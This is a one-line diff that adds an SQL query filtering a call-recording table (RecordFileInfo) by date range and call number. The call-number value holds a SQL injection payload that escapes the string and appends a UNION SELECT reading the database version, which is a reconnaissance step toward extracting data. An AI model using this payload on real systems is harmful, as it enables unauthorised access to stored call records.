@@ -1,0 +1,1 @@
+select RecordChannel,RecordDateTime,CallNumber,RecordDuration,FileFullName,CallDirection from RecordFileInfo where 1=1 and RecordDateTime >= #2006-01-01 00:00:00# and RecordDateTime <= #2024-05-06 23:59:59# and CallNumber like '%\'' union select 0,null,null,version(),null,null,null--%'
